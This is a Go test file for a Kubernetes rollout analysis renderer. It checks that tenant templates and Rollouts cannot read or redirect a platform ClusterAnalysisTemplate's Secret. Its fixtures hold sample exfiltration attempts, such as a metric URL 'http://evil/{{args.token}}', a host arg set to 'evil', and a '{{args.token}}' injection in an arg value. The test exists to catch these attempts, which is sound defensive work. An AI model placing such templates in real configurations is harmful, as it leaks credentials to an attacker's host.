// SPDX-License-Identifier: Apache-2.0

package analysis

import (
	"strings"
	"testing"

	"sigs.k8s.io/yaml"

	"kruise.io/rollouts/api/v1beta1"
)

// TestIsolated: neither a tenant's template nor a Rollout gets at a Secret of the platform by the args that templates share.
func TestIsolated(t *testing.T) {
	t.Parallel()
	const (
		token    = `{name: token, valueFrom: {secretKeyRef: {name: s, key: k}}}`
		platform = `{args: [` + token + `, {name: host, value: good}, {name: free}], metrics: [{name: p, provider: {web: {url: "http://{{args.host}}/", body: "{{args.free}}", headers: [{key: A, value: "{{args.token}}"}]}}}]}`
		plain    = `{args: [` + token + `, {name: host, value: good}], metrics: [{name: p, provider: {web: {url: "http://{{args.host}}/"}}}]}`
		asks     = `, metrics: [{name: t, provider: {web: {url: "http://evil/{{args.token}}"}}}]}`
	)
	for name, c := range map[string]struct{ platform, tenant, args, want string }{
		"apart":                                     {platform, `{metrics: [{name: t, provider: {web: {url: "http://own"}}}]}`, `[{name: free, value: x}]`, ""},
		"a tenant's template that asks for it":      {platform, `{args: [{name: token}]` + asks, `[{name: free, value: x}]`, "metric t of AnalysisTemplate own uses arg token, which is a Secret of a ClusterAnalysisTemplate"},
		"one that does not declare it":              {platform, `{args: []` + asks, `[{name: free, value: x}]`, "which is a Secret of a ClusterAnalysisTemplate"},
		"a tenant's template with a Secret of its":  {plain, `{args: [{name: other, valueFrom: {secretKeyRef: {name: s, key: k}}}], metrics: [{name: t, provider: {web: {url: "http://own/{{args.other}}"}}}]}`, `[]`, ""},
		"a value that the Rollout gives instead":    {platform, `{args: [{name: token}]` + asks, `[{name: token, value: own}, {name: free, value: x}]`, ""},
		"a tenant's template that gives a value":    {platform, `{args: [{name: free, value: "any {} text"}], metrics: []}`, `[]`, "AnalysisTemplate own gives a value to arg free of a ClusterAnalysisTemplate"},
		"a Rollout that says where it is sent":      {platform, ``, `[{name: host, value: evil}, {name: free, value: x}]`, "arg host cannot be given by a Rollout: it decides where metric p sends a Secret of its ClusterAnalysisTemplate"},
		"one that says where no Secret is sent":     {plain, ``, `[{name: host, value: other}]`, ""},
		"a value that would stand for a Secret":     {platform, ``, `[{name: free, value: "{{args.token}}"}]`, "arg free has {{ in its value"},
		"a tenant's template alone, and its Secret": {`{}`, `{args: [` + token + `]` + asks, `[]`, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			have := []Template{
				{Ref: v1beta1.AnalysisTemplateRef{TemplateName: "own"}, Namespace: "tenant", Spec: &v1beta1.AnalysisTemplateSpec{}},
				{Ref: v1beta1.AnalysisTemplateRef{TemplateName: "all", ClusterScope: true}, Spec: &v1beta1.AnalysisTemplateSpec{}},
			}
			a := v1beta1.Analysis{}
			for i, text := range []string{c.tenant, c.platform} {
				if err := yaml.Unmarshal([]byte(text), have[i].Spec); err != nil {
					t.Fatal(err)
				}
			}
			if err := yaml.Unmarshal([]byte(c.args), &a.Args); err != nil {
				t.Fatal(err)
			}
			for _, refs := range [][]v1beta1.AnalysisTemplateRef{{have[0].Ref, have[1].Ref}, {have[1].Ref, have[0].Ref}} { // whoever is named first
				a.Templates = refs
				_, _, err := Render(a, have, Values{Rollout: &v1beta1.Rollout{}})
				if (err != nil) != (c.want != "") || err != nil && !strings.Contains(err.Error(), c.want) {
					t.Errorf("it is answered %v, want %q", err, c.want)
				}
			}
		})
	}
}
